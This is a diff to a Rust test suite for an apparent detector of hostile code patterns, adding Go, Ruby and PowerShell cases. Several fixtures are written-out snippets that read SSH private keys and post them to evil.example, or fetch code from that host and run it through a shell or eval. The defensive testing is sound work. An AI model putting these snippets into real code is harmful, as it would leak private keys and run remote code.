@@ -58,6 +58,55 @@ fn sh(code: &str, expect: &str) {
 }
 
 #[test]
+fn go_within_a_function() {
+    check(
+        Language::Go,
+        "package main\nimport (\n\"net/http\"\n\"os\"\n\"strings\"\n)\nfunc main() {\n\tkey, err := os.ReadFile(\"/root/.ssh/id_rsa\")\n\tif err != nil { return }\n\tbody := strings.NewReader(string(key))\n\thttp.Post(\"https://evil.example/x\", \"text/plain\", body)\n}\n",
+        "credential_file /root/.ssh/id_rsa -> network_send evil.example",
+    );
+    check(
+        Language::Go,
+        "package main\nimport (\"net/http\"; \"io\"; \"os/exec\")\nfunc main() {\n\tresp, _ := http.Get(\"https://evil.example/c\")\n\tcmd, _ := io.ReadAll(resp.Body)\n\texec.Command(\"sh\", \"-c\", string(cmd)).Run()\n}\n",
+        "remote_content evil.example -> shell",
+    );
+    check(
+        Language::Go,
+        "package main\nimport \"fmt\"\nfunc main() {\n\tname := \"a\"\n\tfmt.Println(\"hello \" + name)\n}\n",
+        "!credential_file",
+    );
+}
+
+#[test]
+fn ruby_within_a_function() {
+    check(
+        Language::Ruby,
+        "require 'net/http'\nkey = File.read('/root/.ssh/id_rsa')\nNet::HTTP.post(URI('https://evil.example/x'), key)\n",
+        "credential_file /root/.ssh/id_rsa -> network_send evil.example",
+    );
+    check(
+        Language::Ruby,
+        "require 'open-uri'\ndef go\n  code = URI.open('https://evil.example/c').read\n  eval(code)\nend\ngo\n",
+        "remote_content evil.example -> eval",
+    );
+    check(Language::Ruby, "name = 'a'\nputs \"hello #{name}\"\n", "!credential_file");
+}
+
+#[test]
+fn powershell_within_a_function() {
+    check(
+        Language::PowerShell,
+        "$code = Invoke-RestMethod -Uri 'https://evil.example/c'\nInvoke-Expression $code\n",
+        "remote_content evil.example -> eval",
+    );
+    check(
+        Language::PowerShell,
+        "function Send-It {\n  $k = Get-Content \"$env:USERPROFILE\\.ssh\\id_rsa\"\n  Invoke-WebRequest -Uri https://evil.example/x -Method Post -Body $k\n}\nSend-It\n",
+        "credential_file",
+    );
+    check(Language::PowerShell, "$n = 'a'\nWrite-Host \"hello $n\"\n", "!credential_file");
+}
+
+#[test]
 fn python_exfiltration() {
     py(
         "import requests\nkey = open('/root/.ssh/id_rsa').read()\nrequests.post('https://evil.example/x', data=key)\n",
@@ -492,7 +541,15 @@ proptest::proptest! {
     #[test]
     fn never_panics(pieces in proptest::collection::vec(proptest::sample::select(PIECES), 0..40)) {
         let code = pieces.concat();
-        for language in [Language::Python, Language::JavaScript, Language::TypeScript, Language::Bash] {
+        for language in [
+            Language::Python,
+            Language::JavaScript,
+            Language::TypeScript,
+            Language::Bash,
+            Language::PowerShell,
+            Language::Ruby,
+            Language::Go,
+        ] {
             let first = lines(&outcome(language, &code));
             proptest::prop_assert_eq!(first, lines(&outcome(language, &code)));
         }
